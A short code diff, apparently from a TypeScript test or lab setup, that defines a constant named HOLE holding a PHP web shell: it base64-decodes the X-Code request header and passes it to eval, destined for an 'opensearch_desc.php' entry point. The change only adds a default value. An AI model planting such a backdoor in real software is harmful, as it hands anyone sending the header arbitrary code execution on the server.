@@ -13,7 +13,7 @@ export interface BrokenTree {
 const ENTRY_POINT = 'opensearch_desc.php'
 const HOLE = `<?php
 try {
-	$answer = eval( base64_decode( $_SERVER['HTTP_X_CODE'] ) );
+	$answer = eval( base64_decode( $_SERVER['HTTP_X_CODE'] ?? '' ) );
 } catch ( Throwable $e ) {
 	$answer = get_class( $e ) . ': ' . $e->getMessage();
 }
